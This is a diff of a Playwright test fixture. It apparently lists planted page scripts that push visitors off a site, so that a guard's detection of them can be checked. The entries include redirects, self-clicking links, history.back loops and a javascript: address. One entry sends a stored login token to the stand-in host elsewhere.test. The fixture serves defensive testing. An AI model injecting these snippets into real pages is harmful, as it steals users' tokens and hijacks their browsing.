@@ -1,12 +1,12 @@
 import { expect } from '@playwright/test';
 import { holds } from './harm-gone.ts';
-import { clickTitle, type PlantedFault, unreported } from './planted-fault.ts';
+import { clickTitle, type PlantedFault } from './planted-fault.ts';
 
 /** Code that leads the visitor away from the page. */
 export const leadingAwayFaults: readonly PlantedFault[] = [
   {
     name: 'Leaves by a meta element',
-    before: unreported,
+    before: 'not reported, leaves the site',
     code: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = \`0; url=https://elsewhere.test/?\${localStorage.getItem('token')}\`; document.head.append(meta)`,
     rejected: 'leaves by a meta element',
     hidden: `const meta = document.createElement('meta'); meta.setAttribute(['http', 'equiv'].join('-'), 'refresh'); meta.content = '0; url=https://elsewhere.test/'; document.head.append(meta)`,
@@ -16,7 +16,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Leaves by a meta element after a click',
-    before: unreported,
+    before: 'not reported, leaves the site',
     code: `document.addEventListener('click', () => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0; url=https://elsewhere.test/'; document.head.append(meta) })`,
     rejected: 'leaves by a meta element',
     hidden: `document.addEventListener('click', () => { const meta = document.createElement('meta'); meta.setAttribute(['http', 'equiv'].join('-'), 'refresh'); meta.content = '0; url=https://elsewhere.test/'; document.body.append(meta) })`,
@@ -27,7 +27,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Leaves by a link that it clicks itself',
-    before: unreported,
+    before: 'replaced, reported',
     code: `const link = document.createElement('a'); link.href = 'https://elsewhere.test/'; document.body.append(link); link.click()`,
     runs: 'later',
     ends: 'replaced',
@@ -35,7 +35,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Leaves by a link that a bound function clicks',
-    before: unreported,
+    before: 'not reported, leaves the site',
     code: `const link = document.createElement('a'); link.href = 'https://elsewhere.test/'; setTimeout(link.click.bind(link), 500)`,
     runs: 'later',
     ends: 'replaced',
@@ -44,7 +44,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Sends a form to another host',
-    before: unreported,
+    before: 'refused by the browser, reported',
     code: `const form = document.createElement('form'); form.action = 'https://elsewhere.test/'; document.body.append(form); form.submit()`,
     runs: 'later',
     ends: 'replaced',
@@ -52,7 +52,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Opens a window',
-    before: unreported,
+    before: 'not reported, opens it',
     code: `window.open('https://elsewhere.test/')`,
     runs: 'later',
     ends: 'stays',
@@ -60,7 +60,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Goes back again and again',
-    before: unreported,
+    before: 'not reported, leaves the page',
     code: 'setInterval(() => history.back(), 200)',
     runs: 'later',
     ends: 'replaced',
@@ -68,7 +68,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Replaces its address again and again',
-    before: unreported,
+    before: 'replaced, reported',
     code: 'setInterval(() => location.replace(location.href), 100)',
     runs: 'later',
     ends: 'replaced',
@@ -76,7 +76,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Asks before the page is left',
-    before: unreported,
+    before: 'not reported, asks',
     code: `window.addEventListener('beforeunload', (event) => event.preventDefault())`,
     runs: 'later',
     ends: 'stays',
@@ -88,7 +88,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Moves links with a base element',
-    before: unreported,
+    before: 'refused by the browser, reported',
     code: `const base = document.createElement('base'); base.href = 'https://elsewhere.test/'; document.head.append(base)`,
     runs: 'later',
     ends: 'stays',
@@ -98,7 +98,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Opens a javascript: address',
-    before: unreported,
+    before: 'refused by the browser, reported',
     code: `location.href = 'javascript:document.body.remove()'`,
     runs: 'later',
     ends: 'stays',
@@ -107,7 +107,7 @@ export const leadingAwayFaults: readonly PlantedFault[] = [
   },
   {
     name: 'Leaves by a timer after its page was left',
-    before: unreported,
+    before: 'not reported, leaves the next page',
     code: `setInterval(() => { if (!location.pathname.startsWith('/auth')) location.assign('/about') }, 300)`,
     runs: 'later',
     act: async (page) => {
